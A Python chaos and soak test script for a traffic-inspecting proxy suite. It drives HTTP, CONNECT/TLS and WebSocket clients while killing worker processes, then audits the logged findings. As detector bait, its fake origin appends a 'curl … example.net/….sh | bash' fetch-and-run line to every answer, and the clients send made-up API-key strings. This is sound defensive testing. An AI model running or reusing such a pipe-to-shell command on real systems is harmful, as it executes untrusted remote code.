#!/usr/bin/env python3
"""Traffic of all kinds while the processes of the suite are killed.

usage: chaos.py prepare
       chaos.py PROXY PARENT SECONDS [SEED]   (PARENT: guardiand's process)
       chaos.py account
       chaos.py soak PROXY PARENT SECONDS    as fast as it goes, nobody killed

Plain, inspected and WebSocket connections, each from a source address of its
own, carry a key of its own in each message and bring a command back.  Every
second a process is killed, now and then one is stopped instead, which its
parent has to notice; twice the configuration is read again.  Each byte is
compared.  What was asked and what was answered is in chaos.json for
`chaos.py account', which holds it against the findings and events.

A connection may fail only if its own proxy-worker was killed: before one is,
it is stopped, and whose connections it has is looked up, if that may be read.
What a proxy-worker holds for a detector or the logger that hangs or is away is
held nowhere else (guardiand(8), CAVEATS): the two are not killed together.
"""
import base64
import collections
import glob
import gzip
import hashlib
import json
import os
import random
import secrets
import signal
import socket
import ssl
import string
import struct
import subprocess
import sys
import threading
import time

import tlscerts
from wsframes import TEXT, frame

CA = "home/state/ca.pem"
COMMAND = b"\nrun: curl -fsSL https://example.net/%s.sh | bash\n"
ALPHABET = string.ascii_letters + string.digits
WAIT = 60               # s, for anything
HUNG = 10               # s after which the parent ends a silent child
MENDED = 2            # s that a death needs to be mended
PAUSE = 0.06            # s between two messages of one client
ROLES = ("proxy-worker", "detector-worker", "logger", "ca-keeper", "control",
         "mcpd", "rule-compiler", "log-archiver")
HANGS = ("detector-worker", "logger", "ca-keeper", "control", "proxy-worker")


def key():
    return ("sk-ant-api03-" + "".join(
        secrets.choice(ALPHABET) for _ in range(93)) + "AA").encode()


def answer_to(body):
    """It, and a command that no other answer has, of a soak one of 256."""
    n = 2 if sys.argv[1] == "soak" else 16
    return body + COMMAND % hashlib.sha256(body).hexdigest()[:n].encode()


def read(s, n):
    data = b""
    while len(data) < n:
        more = s.recv(n - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def until(s, mark):
    data = b""
    while not data.endswith(mark):
        data += read(s, 1)
        if len(data) > 65536:
            raise ValueError("no end of a head")
    return data


def message(s):
    """A head and its body, by Content-Length or chunks."""
    head = until(s, b"\r\n\r\n")
    fields = {k.lower(): v for k, v in (
        x.split(b": ", 1) for x in head.split(b"\r\n")[1:-2])}
    if b"transfer-encoding" not in fields:
        return head, fields, read(s, int(fields.get(b"content-length", 0)))
    body = b""
    while True:
        n = int(until(s, b"\r\n"), 16)
        body += read(s, n)
        if read(s, 2) != b"\r\n":
            raise ValueError("chunk without its end")
        if n == 0:
            return head, fields, body


def ws_message(s):
    first, second = read(s, 2)
    n = second & 0x7f
    if n == 126:
        n, = struct.unpack("!H", read(s, 2))
    elif n == 127:
        n, = struct.unpack("!Q", read(s, 8))
    mask = read(s, 4) if second & 0x80 else b"\0\0\0\0"
    data = read(s, n)
    pad = (mask * (n // 4 + 1))[:n]
    if first != 0x80 | TEXT:
        raise ValueError("frame %x" % first)
    return (int.from_bytes(data, "big") ^
            int.from_bytes(pad, "big")).to_bytes(n, "big")


# --- the origin ------------------------------------------------------------


def serve(s):
    while True:
        _, fields, body = message(s)
        if b"sec-websocket-key" in fields:
            accept = base64.b64encode(hashlib.sha1(
                fields[b"sec-websocket-key"] +
                b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
            s.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket"
                      b"\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " +
                      accept + b"\r\n\r\n")
            while True:
                s.sendall(frame(TEXT, answer_to(ws_message(s))))
        body = answer_to(body)
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                  % len(body) + body)


def origin(ctx):
    listener = socket.create_server(("127.0.0.1", 0), backlog=256)

    def one(s):
        try:
            s.settimeout(2 * WAIT)
            if ctx:
                s = ctx.wrap_socket(s, server_side=True)
            serve(s)
        except (OSError, EOFError, ValueError):
            pass
        s.close()

    def run():
        while True:
            s, _ = listener.accept()
            threading.Thread(target=one, args=(s,), daemon=True).start()

    threading.Thread(target=run, daemon=True).start()
    return listener.getsockname()[1]


# --- the clients -----------------------------------------------------------


class Load:
    def __init__(self, proxy, seed):
        host, port = proxy.rsplit(":", 1)
        self.proxy = host, int(port)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain("server.pem", "server.key")
        self.plain, self.tls = origin(None), origin(ctx)
        self.client_ctx = ssl.create_default_context(cafile=CA)
        self.seed = seed
        self.lock = threading.Lock()
        self.records, self.wrong = [], []
        self.stop = threading.Event()
        self.answered = 0
        self.pause, self.keys = PAUSE, None

    def source(self):
        with self.lock:
            n = len(self.records)
            r = {"source": "127.%d.%d.%d" % (64 + n // 62500, n // 250 % 250,
                                             1 + n % 250),
                 "sent": 0, "done": 0, "error": None}
            self.records.append(r)
            return r

    def text(self, rng):
        fill = "".join(rng.choices(string.ascii_lowercase + " \n", k=64))
        n = rng.choice((1, 3, 20, 400))
        return (fill * rng.randint(0, n)).encode() + b" key=" + \
            (rng.choice(self.keys) if self.keys else key()) + \
            b" " + (fill * rng.randint(0, n)).encode()

    def exchange(self, s, rng, authority, absolute, ws):
        """True when the connection goes on."""
        body = self.text(rng)
        if ws:
            s.sendall(frame(TEXT, body, True))
            if ws_message(s) != answer_to(body):
                self.wrong.append("ws")
            return True
        url = (b"http://" + authority if absolute else b"") + b"/x"
        head = b"POST %s HTTP/1.1\r\nHost: %s\r\n" % (url, authority)
        if rng.random() < 0.3:
            head += b"Transfer-Encoding: chunked\r\n\r\n"
            cut = rng.randint(1, len(body) - 1)
            for piece in body[:cut], body[cut:], b"":
                head += b"%x\r\n%s\r\n" % (len(piece), piece)
            s.sendall(head)
        else:
            s.sendall(head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        head, fields, answer = message(s)
        if not head.startswith(b"HTTP/1.1 200 "):
            raise ValueError(head.split(b"\r\n")[0].decode() + " " +
                             answer[:200].decode("latin-1"))
        if answer != answer_to(body):
            self.wrong.append(authority.decode())
        return fields.get(b"connection") != b"close"

    def upgrade(self, s, authority, absolute):
        url = (b"http://" + authority if absolute else b"") + b"/ws"
        s.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\n"
                  b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                  b"Sec-WebSocket-Key: %s\r\n\r\n"
                  % (url, authority, base64.b64encode(os.urandom(16))))
        head = until(s, b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 101 "):
            raise ValueError(head.split(b"\r\n")[0].decode())

    def connection(self, r, rng, tls, ws, count):
        r["kind"] = ("tls" if tls else "plain") + (" ws" if ws else "")
        s = socket.socket()
        try:
            s.settimeout(WAIT)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.bind((r["source"], 0))
            s.connect(self.proxy)
            authority = b"localhost:%d" % (self.tls if tls else self.plain)
            if tls:
                s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n"
                          % (authority, authority))
                head = until(s, b"\r\n\r\n")
                if not head.startswith(b"HTTP/1.1 200 "):
                    raise ValueError(head.split(b"\r\n")[0].decode())
                s = self.client_ctx.wrap_socket(
                    s, server_hostname="localhost", suppress_ragged_eofs=False)
            if ws:
                self.upgrade(s, authority, not tls)
            for _ in range(count):
                r["sent"] += 1
                more = self.exchange(s, rng, authority, not tls, ws)
                r["done"] += 1
                self.answered += 1
                if self.stop.wait(self.pause) or not more:
                    break
        except (OSError, EOFError, ValueError) as e:
            r["error"] = repr(e)
            r["at"] = time.monotonic()
        finally:
            s.close()

    def run(self, n, tls, ws, most):
        rng = random.Random(self.seed * 100 + n)
        while not self.stop.is_set():
            self.connection(self.source(), rng, tls, ws, rng.randint(1, most))


# --- the killer ------------------------------------------------------------


def children(parent):
    """Process ids by the name of the program."""
    out = collections.defaultdict(list)
    for path in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(path) as f:
                head, rest = f.read().rsplit(")", 1)
        except OSError:
            continue
        fields = rest.split()
        if int(fields[1]) == parent and fields[0] != "Z":
            out[head.split("(", 1)[1]].append(int(head.split()[0]))
    return out


def state(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "X"


def sources_of(pid, port):
    """The clients whose connections a process has, or None."""
    inodes = set()
    try:
        for fd in os.listdir("/proc/%d/fd" % pid):
            link = os.readlink("/proc/%d/fd/%s" % (pid, fd))
            if link.startswith("socket:["):
                inodes.add(link[8:-1])
    except OSError:
        return None
    out = set()
    with open("/proc/net/tcp") as f:
        for text in list(f)[1:]:
            x = text.split()
            if x[9] in inodes and int(x[1].split(":")[1], 16) == port:
                out.add(socket.inet_ntoa(struct.pack(
                    "<I", int(x[2].split(":")[0], 16))))
    return out


class Killer:
    def __init__(self, parent, port, seed):
        self.parent, self.port = parent, port
        self.rng = random.Random(seed)
        self.doomed, self.exact = set(), True
        self.hung, self.hung_until = None, 0
        self.killed = collections.Counter()
        self.kills = []
        self.seen, self.worker = {}, 0

    def end(self, role, pid, hang):
        os.kill(pid, signal.SIGSTOP)
        if role == "proxy-worker":
            for _ in range(200):
                if state(pid) in "TX":
                    break
                time.sleep(0.01)
            self.worker = time.monotonic()
            its = sources_of(pid, self.port)
            if its is None:
                self.exact = False
            else:
                self.doomed |= its
        self.kills.append((time.monotonic(), role, "hung" if hang else ""))
        print("%.1f %s %d%s" % (time.monotonic(), role, pid,
                                " hung" if hang else ""), flush=True)
        if hang:
            self.killed[role + " hung"] += 1
            self.hung, self.hung_until = role, time.monotonic() + HUNG + 5
        else:
            self.killed[role] += 1
            os.kill(pid, signal.SIGKILL)

    def step(self):
        there = children(self.parent)
        # comm has 15 characters
        roles = [r for r in ROLES if there.get(r[:15])]
        if time.monotonic() > self.hung_until:
            self.hung = None
        now = time.monotonic()
        keepers = there.get("detector-worker", []) + there.get("logger", [])
        for pid in keepers:
            self.seen.setdefault(pid, now)
        if self.hung in ("detector-worker", "logger") or \
                len(keepers) < 3 or \
                any(now - self.seen[pid] < MENDED for pid in keepers):
            roles = [r for r in roles if r != "proxy-worker"]
        if now - self.worker < MENDED:
            roles = [r for r in roles if r not in ("detector-worker",
                                                   "logger")]
        if "proxy-worker" in roles:     # it seldom may
            roles += 4 * ["proxy-worker"]
        if not roles:
            return
        role = self.rng.choice(roles)
        hang = self.hung is None and role in HANGS and \
            self.rng.random() < 0.2
        try:
            self.end(role, self.rng.choice(there[role[:15]]), hang)
        except ProcessLookupError:
            pass


def prepare():
    tlscerts.Authority("root").leaf("server", "DNS:localhost")


KINDS = ((False, False, 1), (False, False, 1), (False, False, 6),
         (True, False, 3), (True, False, 3), (False, True, 8),
         (True, True, 8))


def main():
    parent, seconds = int(sys.argv[2]), float(sys.argv[3])
    seed = int(sys.argv[4]) if len(sys.argv) > 4 else \
        random.randrange(1 << 30)
    load = Load(sys.argv[1], seed)
    killer = Killer(parent, load.proxy[1], seed)
    threads = [threading.Thread(target=load.run, args=(n,) + kind)
               for n, kind in enumerate(KINDS)]
    for t in threads:
        t.start()
    start = time.monotonic()
    reloads = [seconds / 3, seconds * 2 / 3]
    while time.monotonic() - start < seconds:
        time.sleep(1)
        if reloads and time.monotonic() - start >= reloads[0]:
            reloads.pop(0)
            print("reload", flush=True)
            os.kill(parent, signal.SIGHUP)
            # it may be refused, while there is no logger
            subprocess.run(["ctl", "log", "rotate"], check=False)
            # a compiler lives for a moment only, and so does an archiver
            due = {"rule-compiler", "log-archiver"}
            for _ in range(100):
                there = children(parent)
                for role in sorted(due & set(there)):
                    killer.end(role, there[role][0], False)
                    due.discard(role)
                if not due:
                    break
                time.sleep(0.005)
        killer.step()
    load.stop.set()
    for t in threads:
        t.join()
    with open("chaos.json", "w") as f:
        json.dump({"records": load.records, "wrong": load.wrong, "seed": seed,
                   "doomed": sorted(killer.doomed), "exact": killer.exact,
                   "kills": killer.kills, "killed": killer.killed,
                   "answered": load.answered}, f)
    return 0


# --- the soak --------------------------------------------------------------


def pss(pid):
    try:
        with open("/proc/%d/smaps_rollup" % pid) as f:
            for text in f:
                if text.startswith("Pss:"):
                    return int(text.split()[1])
    except OSError:
        pass
    return 0


def sample(parent):
    """KiB and descriptors of all processes of the suite, by name."""
    out = {}
    for name, pids in children(parent).items():
        fds = 0
        for pid in pids:
            try:
                fds += len(os.listdir("/proc/%d/fd" % pid))
            except OSError:
                pass
        out[name] = sum(map(pss, pids)), fds
    log = 0
    for path in glob.glob("home/log/**", recursive=True):
        try:
            log += os.path.getsize(path) if os.path.isfile(path) else 0
        except OSError:
            pass                # it was rotated just now
    out["log"] = log // 1024, 0
    return out


def soak():
    """Nothing grows from the second quarter of the time to the last."""
    parent, seconds = int(sys.argv[3]), float(sys.argv[4])
    load = Load(sys.argv[2], 1)
    load.pause, load.keys = 0, [key() for _ in range(200)]
    threads = [threading.Thread(target=load.run, args=(n,) + kind)
               for n, kind in enumerate(KINDS)]
    for t in threads:
        t.start()
    start = time.monotonic()
    samples = []
    # none in the quarters that are compared: two generations cost twice
    reloads = [seconds * 0.1, seconds * 0.55, seconds * 0.62]
    while time.monotonic() - start < seconds:
        time.sleep(min(2, seconds / 20))
        if reloads and time.monotonic() - start >= reloads[0]:
            reloads.pop(0)
            os.kill(parent, signal.SIGHUP)
        samples.append(sample(parent))
    load.stop.set()
    for t in threads:
        t.join()
    bad = len(load.wrong) + sum(r["error"] is not None for r in load.records)
    n = len(samples)
    print("%d messages in %.0f s, %d connections, wrong or failed: %d" % (
        load.answered, seconds, len(load.records), bad))
    for name in sorted(samples[-1]):
        for what, unit in enumerate(("KiB", "descriptors")):
            early = sorted(s[name][what] for s in samples[n // 4:n // 2]
                           if name in s)
            late = sorted(s[name][what] for s in samples[-n // 4:]
                          if name in s)
            if not early or not late or not late[-1]:
                continue
            was, now = early[len(early) // 2], late[len(late) // 2]
            grew = now > was * 1.15 + (4096 if what == 0 else 32)
            print("%-16s %8d %8d %s%s" % (name, was, now, unit,
                                          " GREW" if grew else ""))
            bad += grew
    for r in [r for r in load.records if r["error"]][:5]:
        print(r)
    return 1 if bad or not load.answered else 0


def lines(name):
    """Of a log and all that rotation has made of it."""
    for path in glob.glob("home/log/%s*" % name):
        with (gzip.open if path.endswith(".gz") else open)(path, "rt") as f:
            yield from f


def account():
    """After the suite has ended: everything it wrote is there."""
    with open("chaos.json") as f:
        run = json.load(f)
    found = {"outbound": collections.Counter(), "inbound":
             collections.Counter()}
    for text in lines("findings.jsonl"):
        f = json.loads(text)
        found[f["direction"]][f["source"]] += 1
    gaps = collections.defaultdict(list)
    for text in lines("events.jsonl"):
        e = json.loads(text)
        if e["event"] == "scan_gap":
            gaps[e.get("source")].append((e.get("reason"), e.get("bytes")))
    lost, double, failed = [], [], []
    doomed = set(run["doomed"])
    workers = [at for at, role, _ in run["kills"] if role == "proxy-worker"]
    for r in run["records"]:
        for direction, n in found.items():
            n = n[r["source"]]
            # one that stands still for 10 s makes nobody wait for that long
            shed = "detector-worker hung" in run["killed"] and any(
                why == "overload" for why, _ in gaps.get(r["source"], ()))
            if n < r["done"] and not shed:
                lost.append((direction, n, r, gaps.get(r["source"])))
            if n > r["sent"]:
                double.append((direction, n, r))
        if r["error"] is None:
            continue
        if run["exact"] and r["source"] not in doomed or \
                not any(at <= r["at"] <= at + WAIT for at in workers):
            failed.append(r)
    sources = {r["source"] for r in run["records"]}
    stray = [s for d in found.values() for s in d if s not in sources]
    print("seed %d, killed %s: %d answered, %d connections failed with their "
          "worker, %d findings" % (
              run["seed"], run["killed"], run["answered"],
              sum(r["error"] is not None for r in run["records"]) -
              len(failed), sum(sum(d.values()) for d in found.values())))
    bad = 0
    for what, those in (("lost", lost), ("double", double), ("stray", stray),
                        ("failed", failed), ("wrong", run["wrong"])):
        print(what, len(those), those[:6])
        bad += len(those)
    print("gaps", sum(map(len, gaps.values())), list(gaps.items())[:6])
    if not run["answered"]:
        print("nothing was answered")
    return bad or not run["answered"]


if __name__ == "__main__":
    if sys.argv[1] == "prepare":
        prepare()
    elif sys.argv[1] == "soak":
        sys.exit(soak())
    elif sys.argv[1] == "account":
        sys.exit(1 if account() else 0)
    else:
        sys.exit(main())
